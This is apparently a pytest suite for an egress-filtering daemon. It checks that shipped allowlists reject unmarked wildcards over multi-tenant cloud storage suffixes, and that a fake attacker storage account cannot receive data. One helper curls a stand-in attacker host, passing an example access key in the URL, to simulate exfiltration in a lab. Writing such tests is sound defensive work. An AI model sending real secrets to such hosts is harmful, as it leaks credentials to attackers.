"""Issue 9, class 8: shipped defaults and multi-tenant wildcards.

Anyone can create an Azure storage account, so a name below
blob.core.windows.net is an attacker's as easily as GitHub's. The shipped
runner allowlist (packaging/github-action/runner.list) and the presets must
not allow such a name, and a wildcard over a public or multi-tenant suffix is
a configuration error (daemon start, reload, `egressd check`) unless the line
marks it `shared`. In the lab the attacker's storage account resolves to the
attacker's recorder.
"""
import os
import signal

import pytest

import lab as L

TENANT = "evilstorage.blob.core.windows.net"   # lab.HOSTS: -> the attacker
SHIPPED = {
    "runner.list": os.path.join(L.REPO, "packaging", "github-action", "runner.list"),
    "github-actions.list": os.path.join(L.REPO, "config", "presets", "github-actions.list"),
}


def shipped(name):
    with open(SHIPPED[name]) as f:
        return L.DEFAULT_ALLOW + "# ---- shipped: %s\n" % name + f.read()


def fetch_tenant(lab, fam):
    return lab.curl("https://%s/file?secret=AKIAIOSFODNN7EXAMPLE" % TENANT, "-" + fam,
                    timeout=8)


def test_tenant_resolves_to_attacker():
    assert L.HOSTS[TENANT] == (L.ATTACKER4, L.ATTACKER6)


@pytest.mark.parametrize("fam", ["4", "6"])
@pytest.mark.parametrize("source", sorted(SHIPPED))
def test_shipped_list_does_not_reach_a_storage_tenant(anylab, source, fam):
    e = anylab.start_egressd(allow=shipped(source))
    r = fetch_tenant(anylab, fam)
    assert r.returncode != 0, r.stdout
    anylab.assert_attacker_got_nothing()
    assert e.running()
    # positive control: the lab's own entries still work beside the shipped list
    ok = anylab.curl("https://updates.example.com/file", "-" + fam)
    assert ok.returncode == 0 and ok.stdout == L.site_body("updates"), ok.stderr


def test_unmarked_wildcard_is_refused_at_start(gwlab):
    allow = L.DEFAULT_ALLOW + "*.blob.core.windows.net\n"
    e = gwlab.write_conf(allow=allow)
    p = e.cmd("check", "-c", e.conf)
    assert p.returncode != 0, p.stdout
    where = "%s/allow.d/lab.list:7" % gwlab.dir
    assert where in p.stderr and "blob.core.windows.net" in p.stderr, p.stderr
    assert "shared" in p.stderr, p.stderr   # the message says how to opt in
    p = e.apply()   # `egressd rules --apply` reads the allowlists too
    assert p.returncode != 0 and where in p.stderr, p.stdout + p.stderr
    with pytest.raises(L.LabError):
        e.start(apply=False)   # the daemon exits before ready
    e.expect_exit()   # its exit is the point: the teardown check must not count it
    assert e.proc.returncode not in (0, None)
    assert where in e.tail(), e.tail()
    gwlab.assert_attacker_got_nothing()


def test_reload_with_unmarked_wildcard_changes_nothing(gwlab):
    e = gwlab.start_egressd()
    with open(os.path.join(gwlab.dir, "allow.d", "lab.list"), "a") as f:
        f.write("*.core.windows.net:443\n")   # covers blob.core.windows.net
    e.proc.send_signal(signal.SIGHUP)
    ev = e.wait_event(lambda x: x.get("event") == "error" and "reload" in x.get("detail", ""),
                      what="the failed reload's error event")
    assert any("lab.list:7" in d and "core.windows.net" in d
               for d in ev.get("diagnostics", [])), ev
    r = fetch_tenant(gwlab, "4")
    assert r.returncode != 0, r.stdout
    gwlab.assert_attacker_got_nothing()
    ok = gwlab.curl("https://updates.example.com/file")
    assert ok.returncode == 0 and ok.stdout == L.site_body("updates"), ok.stderr
    assert e.running()


@pytest.mark.parametrize("fam", ["4", "6"])
def test_shared_mark_is_an_explicit_opt_in(gwlab, fam):
    """Positive control: the lab would see the leak. `shared` says "I know"."""
    e = gwlab.start_egressd(allow=L.DEFAULT_ALLOW + "*.blob.core.windows.net shared\n")
    fetch_tenant(gwlab, fam)
    rec = gwlab.attacker_records()
    assert rec["total_bytes"] > 0, rec
    ev = e.wait_event(lambda x: x.get("event") == "allow" and x.get("name") == TENANT,
                      what="allow event for the tenant")
    assert ev.get("rule", "").endswith("lab.list:7"), ev
    assert e.running()


# ---- the CI script writes the shipped runner list and the user's --allow entries

CI = os.path.join(L.REPO, "packaging", "github-action", "egressd-ci.sh")


def ci_script(tmp_path, *args):
    """egressd-ci.sh up to its `egressd check`, in a throwaway namespace: the
    EGRESSD_BIN wrapper runs `check` only and refuses the rest (no rules)."""
    wrap = tmp_path / "egressd"
    wrap.write_text('#!/bin/sh\n[ "$1" = check ] && exec %s "$@"\necho "wrapper: not $1" >&2\n'
                    'exit 3\n' % L.egressd_bin())
    wrap.chmod(0o755)
    ns = "%s-ci-%d" % (L.PREFIX, len(os.listdir(str(tmp_path))))
    L.run(["ip", "netns", "add", ns])
    try:
        env = dict(os.environ, EGRESSD_BIN=str(wrap), EGRESSD_CONF_DIR=str(tmp_path / "etc"),
                   EGRESSD_STATE_DIR=str(tmp_path / "state"), EGRESSD_NO_SYSTEMD="1",
                   EGRESSD_PRESET_DIR=os.path.join(L.REPO, "config", "presets"))
        p = L.run(["ip", "netns", "exec", ns, "bash", CI] + list(args), check=False,
                  timeout=20, env=env)
    finally:
        L.ns_delete(ns)
    with open(tmp_path / "etc" / "allow.d" / "ci.list") as f:
        return p, f.read()


def test_ci_script_refuses_an_unmarked_storage_wildcard(tmp_path):
    p, listed = ci_script(tmp_path, "--allow", "updates.example.com *.blob.core.windows.net")
    assert p.returncode != 0 and "config rejected" in p.stderr, p.stderr
    assert "ci.list:3: wildcard \"*.blob.core.windows.net\" covers the multi-tenant" in p.stderr
    assert "# the CI runner's own endpoints" in listed   # runner.list came along, cleanly


def test_ci_script_keeps_shared_with_its_entry(tmp_path):
    p, listed = ci_script(tmp_path, "--allow", "updates.example.com *.blob.core.windows.net shared")
    assert "config rejected" not in p.stderr, p.stderr
    assert "wrapper: not rules" in p.stderr, p.stderr   # check passed; nothing applied
    assert "*.blob.core.windows.net shared\n" in listed.splitlines(True), listed
